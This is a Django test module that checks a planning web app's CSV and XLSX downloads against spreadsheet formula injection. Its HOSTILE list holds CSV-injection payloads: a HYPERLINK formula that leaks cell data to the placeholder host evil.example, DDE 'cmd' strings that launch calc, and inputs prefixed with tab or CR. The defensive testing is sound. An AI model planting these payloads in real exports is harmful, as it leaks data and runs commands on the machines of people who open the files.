"""Every CSV and XLSX download is free of spreadsheet formulas (issue 15, row 7).

Hostile text (starting with ``= + - @``, tab or CR) is stored in every free-text field the
pages show; then every download linked from every page, for the admin (who sees the most
fields), is parsed with the csv module and openpyxl: no cell may start with a formula
prefix and no sheet may hold a formula. Numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from clusterplan.io.export import FORMULA_PREFIXES
from clusterweb.acquisition.models import Lead
from clusterweb.history.services import record_create, record_update
from clusterweb.planning.models import Project
from clusterweb.testing import PersonaTestCase
from clusterweb.tests import test_personas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

FREE_TEXT = {
    "name",
    "name_nl",
    "name_en",
    "description",
    "description_nl",
    "description_public",
    "instrument",
    "note",
    "label_nl",
    "label_en",
    "rationale",
    "rationale_nl",
    "public_source",
    "place",
    "campus",
    "capabilities_offered",
    "capabilities_needed",
    "collaboration_opportunities",
    "role_nl",
    "growth_plans",
    "source",
    "company",
    "owner",
    "next_action",
    "username",
    "object_repr",
    "field_label",
}
"""Free-text fields (shown as they were typed, never used as ids or choices)."""

DOWNLOAD = re.compile(r'href="([^"]+\.(?:csv|xlsx))"')


def _hostile_text_everywhere() -> int:
    """Put a hostile text in every free-text field of every row; the number of fields set."""
    from django.apps import apps

    count = 0
    for model in apps.get_app_config("planning").get_models():
        count += _poison(model)
    for label in ("ecosystem", "acquisition", "history", "scenarios"):
        for model in apps.get_app_config(label).get_models():
            count += _poison(model)
    return count


def _poison(model: type[models.Model]) -> int:
    fields = [
        f
        for f in model._meta.get_fields()
        if isinstance(f, models.CharField | models.TextField)
        and f.name in FREE_TEXT
        and not f.choices
        and not f.primary_key
    ]
    count = 0
    for n, pk in enumerate(model._default_manager.values_list("pk", flat=True)):
        values: dict[str, Any] = {}
        for k, f in enumerate(fields):
            text = HOSTILE[(n + k) % len(HOSTILE)]
            if f.unique:
                text = f"{text} {pk}"
            values[f.name] = text[: f.max_length] if f.max_length else text
        if values:
            model._default_manager.filter(pk=pk).update(**values)
            count += len(values)
    return count


def _pages() -> list[str]:
    """Every page URL without parameters, plus the parameterised pages the personas read."""
    urls: set[str] = set()

    def walk(patterns: list[URLPattern | URLResolver], prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{prefix}{p.namespace}:" if p.namespace else prefix)
            elif p.name and not p.pattern.regex.groups:
                try:
                    urls.add(reverse(prefix + p.name))
                except Exception:  # noqa: BLE001 - a pattern that needs arguments
                    continue

    walk(get_resolver().url_patterns, "")
    for name, kwargs in test_personas.READ + test_personas.PUBLIC:
        urls.add(reverse(name, kwargs=kwargs))
    skip = ("/logout", "/admin", "/i18n", "/jsi18n", "/new/", "/import/")
    return sorted(u for u in urls if not any(s in u for s in skip))


def _formula_like(value: object) -> bool:
    # A lone "-" (placeholder) is text in every spreadsheet.
    return isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_PREFIXES)


class SafeExportTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        project = Project.objects.order_by("pk").first()
        assert project is not None
        record_create(cls.editor, project, note=HOSTILE[0])
        record_update(cls.editor, project, "name_nl", HOSTILE[1], HOSTILE[2], note=HOSTILE[3])
        Lead.objects.create(
            key="hostile", company=HOSTILE[0], source="anchor_tenant", stage="identified"
        )
        cls.poisoned = _hostile_text_everywhere()

    def _downloads(self) -> set[str]:
        links: set[str] = set()
        for url in _pages():
            response = self.client.get(url)
            if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                links |= set(DOWNLOAD.findall(response.content.decode("utf-8")))
            elif url.endswith((".csv", ".xlsx")):
                links.add(url)
        return links

    def test_no_download_holds_a_formula(self) -> None:
        self.assertGreater(self.poisoned, 50)
        self.login(self.admin)
        links = self._downloads()
        kinds = {link.split("/")[1] for link in links}
        self.assertGreaterEqual(len(links), 20, links)
        expected = {
            "dashboard",
            "finance",
            "history",
            "plan",
            "acquisition",
            "scenarios",
            "backcast",
            "impact",
        }
        self.assertLessEqual(expected, kinds)
        neutralised = 0
        for link in sorted(links):
            response = self.client.get(link)
            with self.subTest(link=link):
                self.assertEqual(response.status_code, 200)
                if link.endswith(".csv"):
                    text = response.content.decode("utf-8")
                    for row in csv.reader(io.StringIO(text)):
                        for cell in row:
                            self.assertFalse(
                                _formula_like(cell) and not re.fullmatch(r"-?[\d.]+", cell), cell
                            )
                            neutralised += cell.startswith("'") and _formula_like(cell[1:])
                else:
                    data = response.content
                    with zipfile.ZipFile(io.BytesIO(data)) as archive:
                        for name in archive.namelist():
                            if name.startswith("xl/worksheets/"):
                                self.assertNotIn(b"<f>", archive.read(name), name)
                    book = load_workbook(io.BytesIO(data))
                    for sheet in book.worksheets:
                        for row in sheet.iter_rows():
                            for cell in row:
                                self.assertNotEqual(cell.data_type, "f", cell.value)
                                self.assertFalse(_formula_like(cell.value), cell.value)
                                if isinstance(cell.value, str):
                                    neutralised += cell.value.startswith("'") and _formula_like(
                                        cell.value[1:]
                                    )
        self.assertGreater(neutralised, 10, "the hostile texts must reach the downloads")
